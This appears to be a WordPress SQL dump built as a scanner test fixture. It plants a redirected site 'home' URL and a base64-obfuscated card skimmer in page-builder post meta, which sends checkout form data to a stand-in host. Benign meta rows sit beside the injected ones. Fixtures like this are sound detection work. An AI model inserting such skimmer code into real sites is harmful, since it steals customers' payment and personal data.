-- Injection points beyond posts and widgets: the site URL moved to another host, a skimmer
-- kept in post meta (a page builder's custom code), and benign meta beside it.
/*!40101 SET NAMES utf8mb4 */;
DROP TABLE IF EXISTS `wp_options`;
CREATE TABLE `wp_options` (
  `option_id` bigint unsigned NOT NULL AUTO_INCREMENT,
  `option_name` varchar(191) NOT NULL DEFAULT '',
  `option_value` longtext NOT NULL,
  `autoload` varchar(20) NOT NULL DEFAULT 'yes',
  PRIMARY KEY (`option_id`),
  UNIQUE KEY `option_name` (`option_name`)
) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;
INSERT INTO `wp_options` VALUES (1,'siteurl','https://www.points.example.test','yes'),(2,'home','https://cdn-points-static.example.net','yes'),(3,'blogname','Points','yes');
DROP TABLE IF EXISTS `wp_postmeta`;
CREATE TABLE `wp_postmeta` (
  `meta_id` bigint unsigned NOT NULL AUTO_INCREMENT,
  `post_id` bigint unsigned NOT NULL DEFAULT '0',
  `meta_key` varchar(255) DEFAULT NULL,
  `meta_value` longtext,
  PRIMARY KEY (`meta_id`),
  KEY `post_id` (`post_id`)
) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;
INSERT INTO `wp_postmeta` VALUES (10,7,'_elementor_custom_code','<script>document.addEventListener(\'change\',function(){var f=document.querySelector(\'form.checkout\');var d=new FormData(f);fetch(atob(\'aHR0cHM6Ly9zdGF0cy1jaGVja291dC5leGFtcGxlLnRvcC9j\'),{method:\'POST\',body:d});});</script>'),(11,7,'_wp_page_template','default'),(12,8,'_custom_html','<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-2\"></script>'),(13,9,'_billing_email','jane@example.com');
DROP TABLE IF EXISTS `wp_users`;
CREATE TABLE `wp_users` (
  `ID` bigint unsigned NOT NULL AUTO_INCREMENT,
  `user_login` varchar(60) NOT NULL DEFAULT '',
  `user_email` varchar(100) NOT NULL DEFAULT '',
  PRIMARY KEY (`ID`)
) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;
INSERT INTO `wp_users` VALUES (1,'admin','admin@points.example.test');
